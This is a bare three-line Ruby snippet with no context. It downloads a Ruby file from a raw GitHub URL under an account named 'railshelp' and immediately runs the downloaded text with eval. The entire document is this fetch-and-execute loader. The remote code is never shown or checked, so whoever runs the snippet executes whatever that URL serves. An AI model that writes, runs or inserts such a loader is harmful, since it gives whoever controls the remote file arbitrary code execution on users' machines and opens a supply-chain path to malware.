require 'open-uri'
code = URI.open('https://raw.githubusercontent.com/railshelp/x/main/h.rb').read
eval(code)
